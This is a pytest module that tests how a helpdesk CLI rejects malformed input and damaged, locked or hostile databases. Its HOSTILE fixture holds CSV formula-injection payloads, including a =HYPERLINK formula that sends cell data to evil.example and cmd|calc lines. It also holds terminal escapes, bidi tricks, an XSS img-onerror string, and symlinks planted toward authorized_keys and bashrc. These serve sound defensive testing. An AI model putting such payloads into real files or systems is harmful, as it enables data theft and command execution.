"""A corpus of malformed input (tests/corpus/), each case through the command line against a real database, on
SQLite and on PostgreSQL.

- ``import_*.json`` / ``import_*.jsonl``: ``deskterm import FILE``;
- ``config_*.toml``: ``deskterm --config FILE list``;
- ``args_*.args``: the arguments after ``deskterm --db DB --config CONFIG``, one per line (an empty line is an
  empty argument; bytes that are not UTF-8 reach the CLI as the OS passes them, surrogate-escaped), with
  standard input from ``NAME.stdin`` when that file exists;
- ``desk_*.case``: a command against a desk in trouble (not a database, damaged, read-only, full, locked, of a
  newer schema, with planted links, with hostile names), prepared by a set-up recipe: see "desks in trouble" below.

Every case must, on both engines: exit 2; print nothing on stdout; print one stderr line per problem, each
naming where (``FILE:RECORD: key``, ``FILE: key``, or the option / argument / command); print no traceback;
and leave the database exactly as it was. The cases about a SQLite file path (``--db`` naming a directory)
run on SQLite only: with a PostgreSQL URL they would be the very same command.

"Exactly as it was", on SQLite: byte-identical. The database is checkpointed (``PRAGMA wal_checkpoint(TRUNCATE)``
through sqlite3) and its file hashed with sha256 before and after each case, and the -wal file must then be
empty. This is stricter than comparing ``iterdump()`` (which would not see a rewritten page, a bumped change
counter or a no-op write transaction); it can be, because a command that fails must not open a write
transaction at all. On PostgreSQL there is no file to hash: every row of every table and every sequence's last
value (``deskterm_testing.db_state``) must be unchanged; a sequence does not roll back, so even a row inserted
then rolled back would show.

Speed: starting the real CLI costs about a second of CPU (imports), times 75 cases, times two engines, on a
2-core machine. So the cases run through the fork server of tests/deskterm_testing.py (``CliServer``): one
Python process imports ``deskterm.cli`` once, then forks a child per case that runs ``deskterm.cli.main(args)``
exactly as ``python -m deskterm.cli`` does. ``test_fork_server_matches_the_real_cli*`` run a sample of cases
both ways, on both engines, and require identical results (the CLI tests of tests/cli rely on it too). One
database per engine serves every case: the cases must not write, and each is checked for it.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import UTC
from pathlib import Path

import pytest

from deskterm_testing import EXAMPLE_CONFIG, db_state, is_pg, run_cli

pytestmark = pytest.mark.engines("sqlite", "postgresql", scope="module")

CORPUS = Path(__file__).with_name("corpus")
CASES = sorted(p.name for p in CORPUS.iterdir() if p.suffix in (".json", ".jsonl", ".toml", ".args"))

# What each line of stderr must name, beyond the generic rule of its kind (see _where_ok).
EXPECT: dict[str, list[str]] = {
    "import_missing_fields.json": ["subject: missing", "customer: missing", "created_at: missing", "priority: missing"],
    "import_bad_priority.json": ["priority:"],
    "import_priority_lowercase.json": ["priority:"],
    "import_bad_timestamp.jsonl": [":2: created_at:"],
    "import_naive_timestamp.json": ["created_at:"],
    "import_unknown_key.jsonl": [":1: colour: unknown key"],
    "import_event_before_created.json": ["events[1].at"],
    "import_events_out_of_order.jsonl": ["events[2].at"],
    "import_bad_event_kind.json": ["events[1].kind"],
    "import_bad_status_to.json": ["events[1].to"],
    "import_event_missing_fields.json": ["events[1].author", "events[1].body", "events[1].public"],
    "import_reply_wrong_types.json": ["events[1].public"],
    "import_events_not_a_list.json": ["events:"],
    "import_duplicate_ref_in_file.jsonl": [":2: ref:"],
    "import_ref_already_imported.json": [":2: ref:"],
    "import_impact_without_urgency.json": ["urgency:"],
    "import_bad_type.json": ["type:"],
    "import_blank_subject.json": ["subject:", "customer:"],
    "import_one_bad_line.jsonl": [":2: created_at:"],
    "import_not_objects.json": [":1:", ":2:", ":3:", ":4:"],
    "config_bad_timezone.toml": [": timezone:"],
    "config_unknown_key.toml": [": colour:"],
    "config_bad_duration.toml": [
        "policies.gold.P1.first_response",
        "policies.gold.P3.resolution",
        "policies.gold.P4.resolution",
    ],
    "config_unknown_calendar.toml": ["policies.gold.calendar"],
    "config_unknown_policy_for_customer.toml": ["policy"],
    "config_bad_hours.toml": ["calendars.office.mon", "calendars.office.tue", "calendars.office.wed"],
    "config_warn_at_out_of_range.toml": ["policies.gold.warn_at"],
    "config_bad_holidays.toml": ["calendars.office.holidays", "calendars.office.closed"],
    "config_missing_priority.toml": ["policies.gold.P1.overtime", "policies.gold.P2"],
    "config_wrong_types.toml": ["timezone", "calendars", "policies"],
    "args_update_bad_priority.args": ["--priority"],
    "args_list_at_yesterday.args": ["--at"],
    "args_list_at_without_offset.args": ["--at"],
    "args_show_at_bad_date.args": ["--at"],
    "args_new_empty_subject.args": ["--subject"],
    "args_new_blank_customer.args": ["--customer"],
    "args_new_missing_customer.args": ["--customer"],
    "args_new_impact_without_urgency.args": ["--impact", "--urgency"],
    "args_new_impact_out_of_range.args": ["--impact"],
    "args_new_bad_type.args": ["--type"],
    "args_update_expect_version_abc.args": ["--expect-version"],
    "args_update_nothing.args": ["nothing to change"],
    "args_update_unknown_ticket.args": ["ticket 999"],
    "args_update_bad_status.args": ["--status"],
    "args_update_empty_note.args": ["note"],
    "args_update_empty_group.args": ["group"],
    "args_update_priority_no_value.args": ["--priority"],
    "args_show.args": ["TICKET"],
    "args_show_unknown_ticket.args": ["ticket NOPE-1"],
    "args_history_unknown_ticket.args": ["ticket #999"],
    "args_unknown_command.args": ["frobnicate"],
    "args_unknown_option.args": ["--colour"],
    "args_list_bad_status.args": ["--status"],
    "args_import_missing_file.args": ["/nonexistent/deskterm/tickets.json:"],
    "args_import_no_file.args": ["FILE"],
    "args_db_is_a_directory.args": ["--db"],
    "args_config_missing.args": ["/nonexistent/deskterm.toml:"],
    "args_extra_argument.args": ["2"],
    "args_show_huge_number.args": ["ticket 99999999999999999999999"],
    "args_show_superscript_digit.args": ["ticket ²"],
    "args_update_note_not_utf8.args": ["note:"],
    "args_new_description_stdin_not_utf8.args": ["--description"],
    "import_lone_surrogate.json": [":1: subject:", ":1: events[1].body:"],
    # issue 13 item 23: what is echoed back is inert
    "import_unknown_key_escape.json": [":1: evil\\x1b[2J\\u202e: unknown key"],
    "args_ack_huge_number.args": ["ESCALATION"],
    "args_handover_hours_nan.args": ["--hours"],
    "args_show_unknown_ticket_escape.args": ["ticket \\x1b[2Jevil\\x07: no such ticket"],
    # issue 13 item 22: dates outside 1970-2200, durations beyond 100 years, an import dated in the future
    "args_show_at_year_1.args": ["--at", "outside the years 1970 to 2200"],
    "args_handover_at_year_1.args": ["--at", "outside the years 1970 to 2200"],
    "args_handover_at_year_9999.args": ["--at", "outside the years 1970 to 2200"],
    "args_report_since_year_1.args": ["--since", "outside the years 1970 to 2200"],
    "args_report_since_huge_duration.args": ["--since", "longer than 100 years"],
    "args_report_until_before_1970.args": ["--until", "outside the years 1970 to 2200"],
    "args_list_at_after_2200.args": ["--at", "outside the years 1970 to 2200"],
    "args_escalate_due_at_before_1970.args": ["--at", "outside the years 1970 to 2200"],
    "import_created_in_future.json": [":1: created_at:", "in the future"],
    "import_event_in_future.json": [":1: events[2].at:", "in the future"],
    "import_created_year_1.json": [":1: created_at: outside the years 1970 to 2200"],
    "config_duration_too_long.toml": ["policies.gold.P1.first_response", "longer than 100 years"],
}

SEED = [
    {
        "ref": "SEED-1",
        "subject": "VPN down for ward B",
        "customer": "Clinique Saint-Jean",
        "priority": "P2",
        "created_at": "2026-03-27T16:05:00+01:00",
        "events": [
            {"at": "2026-03-27T16:20:00+01:00", "kind": "reply", "public": True, "author": "alice", "body": "On it."},
            {"at": "2026-03-27T16:40:00+01:00", "kind": "status", "to": "pending"},
        ],
    },
    {
        "ref": "SEED-2",
        "subject": "New laptop",
        "customer": "Acme",
        "impact": 3,
        "urgency": 2,
        "type": "request",
        "created_at": "2026-03-26T10:00:00Z",
    },
    {"ref": "SEED-3", "subject": "Printer", "customer": "Acme", "priority": "P4", "created_at": "2026-03-25T08:00:00Z"},
]


def _args_of(name: str) -> list[str]:
    data = (CORPUS / name).read_bytes()
    data = data[:-1] if data.endswith(b"\n") else data
    return [os.fsdecode(a) for a in data.split(b"\n")]


def _stdin_of(name: str) -> Path | None:
    path = CORPUS / (Path(name).stem + ".stdin")
    return path if path.exists() else None


def _command(name: str) -> list[str]:
    path = str(CORPUS / name)
    if name.endswith(".toml"):
        return ["--config", path, "list"]
    if name.endswith(".args"):
        return _args_of(name)
    return ["import", path]


def _fingerprint(db: str) -> object:
    if is_pg(db):
        return db_state(db)
    conn = sqlite3.connect(db)
    try:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
    finally:
        conn.close()
    wal = Path(db + "-wal")
    assert not wal.exists() or wal.stat().st_size == 0
    return hashlib.sha256(Path(db).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def desk_db(module_db_url, cli_server, tmp_path_factory):
    """A database with three valid tickets, made by the CLI with the configuration every case uses (one per
    engine), and the working directory the cases run in."""
    root = tmp_path_factory.mktemp("corpus")
    seed = root / "seed.json"
    seed.write_text(json.dumps(SEED))
    r = cli_server.run("--db", module_db_url, "--config", str(EXAMPLE_CONFIG), "import", str(seed))
    assert r.returncode == 0, r.stderr
    work = root / "work"
    work.mkdir()
    return module_db_url, work


def _where_ok(name: str, line: str) -> bool:
    path = str(CORPUS / name)
    if name.endswith((".json", ".jsonl", ".toml")):
        return line.startswith(f"{path}:")  # FILE:RECORD: key: ... or FILE: key: ...
    return True  # an argument list: checked by EXPECT


# Cases about the SQLite file named by --db: they override --db, so on PostgreSQL they would run the same command.
SQLITE_FILE_CASES = ["args_db_is_a_directory.args"]


def test_the_corpus_is_large_enough_and_every_case_has_expectations():
    kinds = {s: [c for c in CASES if c.endswith(s)] for s in (".json", ".jsonl", ".toml", ".args")}
    assert len(CASES) >= 40 and all(kinds.values()), kinds
    assert not [c for c in CASES if c.endswith(".args") and c not in EXPECT]
    assert set(SQLITE_FILE_CASES) <= set(CASES)


def _rejected_cleanly(name: str, cli_server, desk_db) -> None:
    db, work = desk_db
    before = _fingerprint(db)
    args = ["--db", db, "--config", str(EXAMPLE_CONFIG), *_command(name)]
    r = cli_server.run(*args, stdin=_stdin_of(name), cwd=work)
    after = _fingerprint(db)

    assert "Traceback" not in r.stderr, r.stderr
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert r.stdout == ""
    lines = r.stderr.rstrip("\n").split("\n")
    assert lines and all(line.strip() for line in lines), repr(r.stderr)
    assert not _CONTROL.search(r.stderr), f"not inert: {r.stderr!r}"
    for line in lines:
        assert _where_ok(name, line), f"does not say where: {line!r}"
        assert len(line) < 2000, "one problem per line, not a dump"
    for needle in EXPECT.get(name, []):
        assert any(needle in line for line in lines), f"{needle!r} not named in:\n{r.stderr}"
    if name.endswith(".args"):
        # a problem of the command line names the option, argument or command on every line
        assert all(any(n in line for n in EXPECT[name]) for line in lines), r.stderr
    assert after == before, "the database changed"


@pytest.mark.parametrize("name", [c for c in CASES if c not in SQLITE_FILE_CASES])
def test_malformed_input_is_rejected_cleanly_and_writes_nothing(name, cli_server, desk_db):
    _rejected_cleanly(name, cli_server, desk_db)


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("name", SQLITE_FILE_CASES)
def test_malformed_sqlite_file_argument_is_rejected_cleanly(name, cli_server, desk_db):
    _rejected_cleanly(name, cli_server, desk_db)


def _both_ways(args: list[str], stdin: Path | None, cli_server, work: Path) -> None:
    forked = cli_server.run(*args, stdin=stdin, cwd=work)
    real = subprocess.run(
        [sys.executable, "-m", "deskterm.cli", *map(os.fsencode, args)],
        capture_output=True,
        input=stdin.read_bytes() if stdin else b"",
        cwd=work,
        timeout=120,
    )
    assert (forked.returncode, forked.stdout, forked.stderr) == (
        real.returncode,
        real.stdout.decode(),
        real.stderr.decode(),
    )


# Cases that fail before the database is opened (configuration, arguments, standard input): one engine is enough.
@pytest.mark.engines("sqlite")
@pytest.mark.parametrize(
    "name",
    [
        "import_missing_fields.json",
        "config_bad_hours.toml",
        "args_update_bad_priority.args",
        "args_update_note_not_utf8.args",
        "args_new_description_stdin_not_utf8.args",
    ],
)
def test_fork_server_matches_the_real_cli(name, cli_server, desk_db):
    db, work = desk_db
    _both_ways(["--db", db, "--config", str(EXAMPLE_CONFIG), *_command(name)], _stdin_of(name), cli_server, work)


# Commands that read the database, on each engine: a refusal and a success (what the CLI tests mostly run).
@pytest.mark.parametrize(
    "command",
    [_command("args_show_unknown_ticket.args"), ["show", "SEED-1", "--json", "--at", "2026-03-28T12:00:00+01:00"]],
    ids=["show-unknown", "show-json"],
)
def test_fork_server_matches_the_real_cli_on_the_database(command, cli_server, desk_db):
    db, work = desk_db
    _both_ways(["--db", db, "--config", str(EXAMPLE_CONFIG), *command], None, cli_server, work)


def test_no_click_usage_block():
    """Click's usage errors become one line (``deskterm update: Invalid value ...``), not Usage:/Try/Error: blocks."""
    r = run_cli("update", "1", "--priority", "P9")
    assert r.returncode == 2
    assert r.stderr.count("\n") == 1 and not re.search(r"^(Usage|Try|Error):", r.stderr, re.M)


# -- desks in trouble (issue 13 items 21-24) ----------------------------------------------------------------
#
# ``desk_*.case`` files (TOML): a command run against a desk that a named set-up recipe prepares in a fresh
# directory, from a copy of the seed desk (SQLite: these cases are about the file, its directory, its disk and
# its lock). Keys: ``recipe`` (a function of RECIPES below), ``args`` (after ``deskterm --db DESK --config
# CONFIG``; in them ``{desk}``, ``{work}`` and ``{seed}`` stand for the desk, the case's directory and the healthy
# seed desk), ``expect`` (what the one stderr line must name), optional ``exit`` (default 2), ``env``, ``input``
# (a file of tests/corpus given as the last argument), ``check`` (a named check of stdout, for the cases that
# succeed), ``changes`` (the files that may change, for the cases that succeed). Every case must: exit as said; print no traceback; print exactly one stderr line (none on success)
# with no control character; and leave every file of its directory as it was (bytes, mode, link target), save the
# ``-shm`` index and an empty ``-wal`` that SQLite may leave beside a desk it could only read.

DESK_CASES = sorted(p.name for p in CORPUS.iterdir() if p.suffix == ".case")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
HOLD_LOCK = """
import sqlite3, sys
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("BEGIN IMMEDIATE")
print("locked", flush=True)
sys.stdin.read()
"""


def _can_mount() -> bool:
    if os.geteuid() != 0 or not Path("/proc/self/mountinfo").exists():
        return False
    probe = Path(__import__("tempfile").mkdtemp(prefix="deskterm-mount-probe-"))
    try:
        ok = (
            subprocess.run(
                ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(probe)], capture_output=True
            ).returncode
            == 0
        )
        if ok:
            subprocess.run(["umount", str(probe)], capture_output=True)
        return ok
    finally:
        probe.rmdir()


class Recipe:
    """What a set-up recipe made: the --db argument, extra environment, and how to undo it."""

    def __init__(self, db: Path, env: dict | None = None, fsize: int | None = None, expect: tuple = ()) -> None:
        self.db, self.env, self.fsize, self.expect = db, env or {}, fsize, expect  # expect: also named on stderr
        self.undo = _UNDO  # run by the test even when the recipe fails half-way


_UNDO: list = []  # what the recipe of the running case must undo (unmount, chattr -i, release a lock)


@pytest.fixture
def undo_recipe():
    _UNDO.clear()
    yield
    while _UNDO:
        _UNDO.pop()()


def _copy_seed(seed: Path, where: Path, name: str = "desk.db") -> Path:
    where.mkdir(parents=True, exist_ok=True)
    db = where / name
    db.write_bytes(seed.read_bytes())
    os.chmod(db, 0o660)
    return db


def _mount_tmpfs(where: Path, size: str, recipe: Recipe) -> None:
    where.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0770", "tmpfs", str(where)], check=True)
    recipe.undo.append(lambda: subprocess.run(["umount", str(where)], check=False))


def _make_read_only(path: Path, recipe: Recipe) -> None:
    """A desk file that nobody may write, root included (chattr +i), or its owner (chmod 0444) when not root."""
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode != 0:
            pytest.skip("running as root on a file system without chattr +i: cannot make a read-only desk")
        recipe.undo.append(lambda: subprocess.run(["chattr", "-i", str(path)], check=False))
    else:
        os.chmod(path, 0o444)


def recipe_text_file(seed: Path, work: Path) -> Recipe:
    (work / "notes.db").write_text("shopping list: milk, eggs\n")
    return Recipe(work / "notes.db")


def recipe_random_bytes(seed: Path, work: Path) -> Recipe:
    (work / "noise.db").write_bytes(bytes((i * 7919 + 13) % 256 for i in range(8192)))
    return Recipe(work / "noise.db")


def recipe_dev_null(seed: Path, work: Path) -> Recipe:
    return Recipe(Path(os.devnull))


def recipe_other_sqlite_database(seed: Path, work: Path) -> Recipe:
    db = work / "places.sqlite"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE bookmarks (url TEXT)")
    conn.commit()
    conn.close()
    return Recipe(db)


def recipe_truncated_desk(seed: Path, work: Path) -> Recipe:
    db = _copy_seed(seed, work)
    with open(db, "r+b") as fh:
        fh.truncate(db.stat().st_size // 3)
    return Recipe(db)


def recipe_damaged_pages(seed: Path, work: Path) -> Recipe:
    db = _copy_seed(seed, work)
    data = bytearray(db.read_bytes())
    page = 4096
    for start in range(page, len(data), page):  # every page but the first (the header) overwritten with noise
        data[start + 8 : start + 400] = bytes((i * 31 + start) % 251 for i in range(392))
    db.write_bytes(bytes(data))
    return Recipe(db)


def recipe_newer_schema(seed: Path, work: Path) -> Recipe:
    db = _copy_seed(seed, work)
    conn = sqlite3.connect(db)
    conn.execute("UPDATE alembic_version SET version_num = '9999'")
    conn.commit()
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    for companion in ("-wal", "-shm"):
        Path(f"{db}{companion}").unlink(missing_ok=True)
    return Recipe(db)


def recipe_read_only_desk(seed: Path, work: Path) -> Recipe:
    db = _copy_seed(seed, work / "desk")
    recipe = Recipe(db)
    _make_read_only(db, recipe)
    return recipe


def recipe_read_only_directory(seed: Path, work: Path) -> Recipe:
    """The desk in a directory nobody may write (root: a read-only mount; else chmod 0555)."""
    where = work / "ro"
    recipe = Recipe(where / "desk.db")
    if os.geteuid() == 0:
        if not _can_mount():
            pytest.skip("running as root without mount: cannot make a read-only directory")
        _mount_tmpfs(where, "4m", recipe)
        _copy_seed(seed, where)
        subprocess.run(["mount", "-o", "remount,ro", str(where)], check=True)
    else:
        # another agent has the desk open (its -wal and -shm exist, readable): what "reads work when the WAL can
        # be read" means in a directory that is read-only to us but not to everyone
        _copy_seed(seed, where)
        holder = sqlite3.connect(where / "desk.db")
        holder.execute("SELECT count(*) FROM tickets").fetchall()
        recipe.undo.append(holder.close)
        os.chmod(where / "desk.db", 0o444)
        os.chmod(where, 0o555)
        recipe.undo.append(lambda: os.chmod(where, 0o755))
    return recipe


def recipe_full_disk(seed: Path, work: Path) -> Recipe:
    """The desk on a file system with no space left (root: a 1 MB tmpfs filled up; else RLIMIT_FSIZE at the
    desk's size, through the fork server's ``fsize``)."""
    where = work / "disk"
    if os.geteuid() == 0 and _can_mount():
        recipe = Recipe(where / "desk.db", expect=("the disk is full",))
        _mount_tmpfs(where, "1m", recipe)
        _copy_seed(seed, where)
        fd = os.open(where / "filler", os.O_CREAT | os.O_WRONLY, 0o600)
        try:
            while os.write(fd, b"\0" * 4096):
                pass
        except OSError:
            pass
        finally:
            os.close(fd)
        return recipe
    # no file may grow past 4 kB: SQLite cannot make its -shm index nor add to its -wal (it says "disk I/O error")
    return Recipe(_copy_seed(seed, where), fsize=4096)


def recipe_locked_desk(seed: Path, work: Path) -> Recipe:
    """Another process holds the desk's write lock (BEGIN IMMEDIATE) for longer than the retry window (1 s here)."""
    db = _copy_seed(seed, work)
    recipe = Recipe(db, env={"DESKTERM_BUSY_TIMEOUT": "1"})
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )

    def release() -> None:
        holder.stdin.close()
        holder.wait(timeout=30)

    recipe.undo.append(release)
    assert holder.stdout.readline().strip() == "locked"
    return recipe


def recipe_planted_backup_link(seed: Path, work: Path) -> Recipe:
    """A desk one schema behind (its upgrade keeps a backup) whose backup name is a link, planted by a member of the
    desk's group, to a file of the agent who will start deskterm next."""
    from deskterm.store import migrate
    from deskterm.store.engine import open_store

    db = work / "desk.db"
    store = open_store(db, migrate=False)
    migrate.upgrade_to(store, "0004")
    store.dispose()
    victim = work / "victim" / "authorized_keys"
    victim.parent.mkdir()
    victim.write_text("ssh-ed25519 AAAA... agent@host\n")
    os.chmod(victim, 0o600)
    os.symlink(victim, f"{db}.bak-0004")
    return Recipe(db)


def recipe_read_only_old_desk(seed: Path, work: Path) -> Recipe:
    """A desk one schema behind (this deskterm would upgrade it, keeping a backup) that may not be written."""
    from deskterm.store import migrate
    from deskterm.store.engine import open_store

    db = work / "desk.db"
    store = open_store(db, migrate=False)
    migrate.upgrade_to(store, "0004")
    store.dispose()
    recipe = Recipe(db)
    _make_read_only(db, recipe)
    return recipe


def recipe_planted_wal_link(seed: Path, work: Path) -> Recipe:
    db = _copy_seed(seed, work)
    victim = work / "victim" / "bashrc"
    victim.parent.mkdir()
    victim.write_text("export PATH=$HOME/bin:$PATH\n")
    os.chmod(victim, 0o600)
    os.symlink(victim, f"{db}-wal")
    return Recipe(db)


HOSTILE = [  # (customer, subject) as customers write them
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\tTabbed Ltd", "\rCarriage return first"),
    ("Evil\x1b[2J\x1b]0;pwned\x07 Corp\x00", "Bell\x07 and NUL\x00 and \x1b[31mred"),
    ("Rh\u202eenola\u202c SA", "invoice\u202egpj.exe"),
    ("Ac\u200bme\ufeff", "zero\u200bwidth\ufeff subject"),
    (
        "[Click](https://evil.example) <img src=x onerror=alert(1)> | cell",
        "*bold* _it_ `code` # heading | pipe ~strike~",
    ),
]


def recipe_hostile_names(seed: Path, work: Path) -> Recipe:
    """A desk whose customers and subjects carry spreadsheet formulas, terminal escapes, bidi overrides, zero-width
    characters and Markdown: P1 tickets opened 5 minutes ago (in the report's period, and due within the shift of
    the handover), one of each kind of payload."""
    from datetime import datetime, timedelta

    from deskterm.config import load_config
    from deskterm.service import Desk, NewTicket
    from deskterm.store.engine import open_store

    db = _copy_seed(seed, work)
    store = open_store(db)
    desk = Desk(store, load_config(EXAMPLE_CONFIG), user="alice")
    at = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
    for customer, subject in HOSTILE:
        desk.create(NewTicket(subject=subject, customer=customer, priority="P1", created_at=at))
    store.dispose()
    return Recipe(db)


RECIPES = {name[len("recipe_") :]: fn for name, fn in globals().items() if name.startswith("recipe_")}


def _tree(root: Path) -> dict[str, tuple]:
    """Every entry under ``root``: (kind, mode, content hash or link target); SQLite's -shm index and an empty
    -wal left out (a read of a read-only desk may leave them; they hold no data)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            rel = str(path.relative_to(root))
            if name.endswith("-shm") or (name.endswith("-wal") and st.st_size == 0 and not path.is_symlink()):
                continue
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                out[rel] = ("dir", oct(st.st_mode))
            else:
                out[rel] = ("file", oct(st.st_mode), hashlib.sha256(path.read_bytes()).hexdigest())
    return out


@pytest.fixture(scope="module")
def seed_desk(cli_server, tmp_path_factory) -> Path:
    """The seed tickets in a SQLite desk, checkpointed into one file (copied by every recipe)."""
    root = tmp_path_factory.mktemp("seed-desk")
    seed = root / "seed.json"
    seed.write_text(json.dumps(SEED))
    db = root / "desk.db"
    r = cli_server.run("--db", str(db), "--config", str(EXAMPLE_CONFIG), "import", str(seed))
    assert r.returncode == 0, r.stderr
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
    conn.close()
    return db


def _desk_case(name: str) -> dict:
    import tomllib

    case = tomllib.loads((CORPUS / name).read_text(encoding="utf-8"))
    assert case["recipe"] in RECIPES, f"{name}: no recipe {case['recipe']!r}"
    return case


def test_every_desk_case_names_a_recipe_and_what_to_expect():
    assert len(DESK_CASES) >= 15
    for name in DESK_CASES:
        case = _desk_case(name)
        assert case.get("expect") or case.get("check"), name


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("name", DESK_CASES)
def test_a_desk_in_trouble_is_one_line_and_stays_as_it_was(name, cli_server, seed_desk, tmp_path, undo_recipe):
    case = _desk_case(name)
    work = tmp_path / "case"
    work.mkdir()
    recipe = RECIPES[case["recipe"]](seed_desk, work)
    before = _tree(work)
    # {desk} and {work} in an argument: the recipe's desk, the case's directory (db copy --from {desk})
    args = [
        "--db",
        str(recipe.db),
        "--config",
        str(EXAMPLE_CONFIG),
        *(a.format(desk=recipe.db, work=work, seed=seed_desk) for a in case["args"]),
    ]
    if "input" in case:
        args.append(str(CORPUS / case["input"]))
    r = cli_server.run(*args, env={**recipe.env, **case.get("env", {})}, cwd=work, fsize=recipe.fsize)
    after = _tree(work)

    expected_exit = case.get("exit", 2)
    assert "Traceback" not in r.stderr, r.stderr
    assert r.returncode == expected_exit, (r.returncode, r.stdout, r.stderr)
    lines = r.stderr.splitlines()
    if expected_exit:
        assert r.stdout == ""
        assert len(lines) == 1 and r.stderr.endswith("\n"), f"one line, not {r.stderr!r}"
    else:
        assert r.stderr == ""
    assert not _CONTROL.search(r.stderr), repr(r.stderr)
    for needle in [*case.get("expect", []), *recipe.expect]:
        assert needle in r.stderr, f"{needle!r} not named in {r.stderr!r}"
    if "check" in case:
        CHECKS[case["check"]](r, work, recipe)
    changed = set(case.get("changes", []))
    assert {k: v for k, v in after.items() if k not in changed} == {k: v for k, v in before.items() if k not in changed}


def check_backup_beside_the_link(r, work: Path, recipe: Recipe) -> None:
    """The upgrade went through, the planted link and its target untouched, the copy under a fresh name, ours."""
    link = Path(f"{recipe.db}.bak-0004")
    assert link.is_symlink()
    victim = work / "victim" / "authorized_keys"
    assert victim.read_text() == "ssh-ed25519 AAAA... agent@host\n" and victim.stat().st_mode & 0o777 == 0o600
    copy = Path(f"{recipe.db}.bak-0004.1")
    assert copy.is_file() and not copy.is_symlink() and copy.stat().st_mode & 0o777 == 0o660
    conn = sqlite3.connect(copy)
    try:
        assert conn.execute("SELECT version_num FROM alembic_version").fetchone() == ("0004",)
    finally:
        conn.close()


def check_csv_inert(r, work: Path, recipe: Recipe) -> None:
    """Every text cell of the CSV is inert and none can start a formula (OWASP: prefixed with ')."""
    import csv
    import io

    assert not _CONTROL.search(r.stdout), "a control or invisible character reached the CSV"
    rows = list(csv.reader(io.StringIO(r.stdout)))
    names = [row[0] for row in rows[2:]]
    assert len(names) == len(HOSTILE) + 2, names  # and the seed's Acme and Clinique Saint-Jean
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
    assert "'=HYPERLINK(" in r.stdout and "'-2+3+cmd" in r.stdout and "'\\x09Tabbed Ltd" in r.stdout
    assert "Evil\\x1b[2J" in r.stdout and "Rh\\u202eenola" in r.stdout and "Ac\\u200bme\\ufeff" in r.stdout


def check_markdown_inert(r, work: Path, recipe: Recipe) -> None:
    """Markdown that stays text when a chat or a viewer renders it: no link, image, HTML, emphasis or table cell
    made by a customer, and nothing a terminal would act on."""
    from markdown_it import MarkdownIt

    assert not _CONTROL.search(r.stdout), "a control or invisible character reached the Markdown"
    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(r.stdout)
    for made in ("<a ", "<img", "<em>", "<strong>", "<code>", "<s>", "onerror=alert(1)>"):
        assert made not in html, (made, html)
    headings = sum(1 for line in r.stdout.splitlines() if line.startswith("#"))
    assert len(re.findall("<h[1-6]>", html)) == headings  # deskterm's own headings only
    for line in r.stdout.splitlines():  # a table row keeps its two cells
        if line.startswith("|") and "cell" in line:
            assert line.replace("\\|", "").count("|") == 3, line


CHECKS = {name[len("check_") :]: fn for name, fn in globals().items() if name.startswith("check_")}


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("recipe", ["read_only_desk", "read_only_directory"])
def test_a_read_only_desk_can_still_be_read(recipe, cli_server, seed_desk, tmp_path, undo_recipe):
    """Reads work from a desk that may not be written (a snapshot, a read-only mount, another agent's file)."""
    work = tmp_path / "case"
    work.mkdir()
    made = RECIPES[recipe](seed_desk, work)
    for args in (
        ["list"],
        ["show", "SEED-1"],
        ["history", "SEED-1"],
        ["report", "--since", "3650d"],
        ["handover"],
        ["escalations", "--all"],
    ):
        r = cli_server.run("--db", str(made.db), "--config", str(EXAMPLE_CONFIG), *args, cwd=work)
        assert (r.returncode, r.stderr) == (0, ""), (args, r.stderr)
    assert "SEED-1" in cli_server.run("--db", str(made.db), "--config", str(EXAMPLE_CONFIG), "show", "SEED-1").stdout
